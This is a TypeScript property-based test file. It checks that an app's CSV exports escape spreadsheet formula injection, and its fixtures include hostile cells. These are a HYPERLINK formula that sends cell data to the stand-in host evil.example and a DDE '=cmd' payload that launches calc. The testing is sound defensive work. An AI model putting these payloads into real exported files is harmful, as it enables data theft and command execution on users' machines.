import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { projectsCsv } from '../../src/export/csv.ts';
import { rejectedCsv } from '../../src/import/rejectedCsv.ts';
import type { LocatedProject } from '../../src/data/project.ts';
import type { RejectedRow } from '../../src/import/types.ts';
import { project } from '../analysis/fixtures.ts';

/** What a spreadsheet runs as a formula when a cell starts with it. */
const FORMULA = /^[=+\-@\t\r]/;

/** Every cell of a CSV the app wrote, as papaparse reads it back (the BOM checked and dropped). */
function cellsOf(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

/** Text that tries hard: formula starts, quotes, separators and line breaks anywhere. */
const hostileText = fc.oneof(
  fc.string({ maxLength: 20 }),
  fc
    .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ' ', ''), fc.string({ maxLength: 12 }), fc.constantFrom('\n', '\r\n', '\r', '"\n=', ''), fc.string({ maxLength: 8 }))
    .map((parts) => parts.join('')),
  fc.constantFrom('=HYPERLINK("http://evil.example/?x="&A1,"点我")\n', '=1+1\n项目名称', "=cmd|' /C calc'!A0", '-2+3', '@SUM(A1)', '\t=1', '\r=1'),
);

/** No cell read back starts a formula; an escaped one is the original behind one apostrophe. */
function expectDefused(read: string, written: string) {
  expect(FORMULA.test(read)).toBe(false);
  expect(read).toBe(FORMULA.test(written) ? `'${written}` : written);
}

describe('one formula rule for every CSV the app writes', () => {
  it('rejected rows: header cells, the 问题字段 column and multi-line cells included', () => {
    fc.assert(
      fc.property(fc.array(hostileText, { minLength: 1, maxLength: 4 }), fc.array(fc.tuple(hostileText, fc.array(hostileText, { maxLength: 4 })), { minLength: 1, maxLength: 4 }), (columns, rows) => {
        const rejected: RejectedRow[] = rows.map(([field, raw], i) => ({ row: i + 2, field, reason: field, raw }));
        const [header, ...body] = cellsOf(rejectedCsv(columns, rejected));
        columns.forEach((c, j) => expectDefused(header![3 + j]!, c));
        body.forEach((cells, i) => {
          const r = rejected[i]!;
          expectDefused(cells[1]!, r.field);
          expectDefused(cells[2]!, r.reason);
          // The row's cells, those beyond the header included, each in a column of its own.
          cells.slice(3).forEach((c, j) => expectDefused(c, r.raw[j] ?? ''));
          expect(cells.length).toBe(3 + Math.max(columns.length, ...rejected.map((x) => x.raw.length)));
        });
      }),
      { numRuns: 300 },
    );
  });

  it('the plan’s export: every text field, numbers left as numbers', () => {
    fc.assert(
      fc.property(fc.record({ name: hostileText, owner: hostileText, remarks: hostileText, nature: hostileText }), (text) => {
        const p: LocatedProject = { ...project('x1', { total: 5, counties: ['140425'] }), ...text };
        const [header, row] = cellsOf(projectsCsv([p], new Map([['140425', '平顺县']])));
        const at = (key: string) => row![header!.findIndex((h) => h.endsWith(`(${key})`))]!;
        for (const key of ['name', 'owner', 'remarks', 'nature'] as const) expectDefused(at(key), text[key]);
        expect(at('investment_total')).toBe('5');
      }),
      { numRuns: 200 },
    );
  });

  it('the cases the adversarial pass found: a multi-line HYPERLINK name and a multi-line header', () => {
    const csv = rejectedCsv(['=1+1\n项目名称'], [{ row: 2, field: '=1+1\n项目名称', reason: '缺少项目名称', raw: ['=HYPERLINK("http://evil.example/?x="&A1,"点我")\n'] }]);
    const [header, row] = cellsOf(csv);
    expect(header![3]).toBe("'=1+1\n项目名称");
    expect(row![1]).toBe("'=1+1\n项目名称");
    expect(row![3]).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"点我")\n');
  });
});
